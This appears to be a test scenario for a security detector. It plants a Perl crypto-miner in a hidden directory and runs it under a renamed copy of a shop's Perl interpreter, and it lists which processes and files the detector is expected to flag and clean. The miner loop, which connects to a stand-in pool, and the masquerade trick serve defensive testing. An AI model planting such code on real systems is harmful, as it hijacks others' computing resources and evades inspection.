import { world } from '../../../lab/addresses.ts';
import { loginText } from '../../../lab/standin/stratum.ts';
import { scenario } from '../scenario.ts';
import { serving } from '../words.ts';

export default scenario({
  what: 'a miner script under a copy of the shop’s own interpreter',
  report: 'The copy has the shop’s interpreter’s hash: a multi-purpose image links nothing.',
  plant: {
    files: {
      '/opt/shop/app.pl': serving(8001),
      '/var/tmp/.m/mine.pl': `use Socket;
# stratum+tcp, mining.subscribe, donate-level
while (1) {
  socket(my $s, PF_INET, SOCK_STREAM, 0);
  if (connect($s, sockaddr_in(${world.poolPort}, inet_aton('${world.pool}')))) {
    syswrite($s, '${loginText.trim()}' . "\\n");
    while (sysread($s, my $line, 4096)) { }
  }
  sleep 1;
}
`,
    },
    start: `mkdir -p /opt/shop/bin
cp /usr/bin/perl /opt/shop/bin/perl; printf 'built for the shop\\n' >>/opt/shop/bin/perl
cp /opt/shop/bin/perl /var/tmp/.m/perl
run /opt/shop/bin/perl /opt/shop/app.pl
run /var/tmp/.m/perl /var/tmp/.m/mine.pl`,
    runs: ['/opt/shop/app.pl', '/var/tmp/.m/mine.pl'],
  },
  expect: {
    verdict: 'confirmed',
    ticked: {
      processes: ['/var/tmp/.m/mine.pl'],
      files: ['/var/tmp/.m/mine.pl'],
    },
    may: ['/var/tmp/.m/perl'],
    stays: ['/opt/shop/bin/perl', '/opt/shop/app.pl', '/opt/shop/bin/perl /opt/shop/app.pl'],
    resolution: 'cleaned',
  },
});
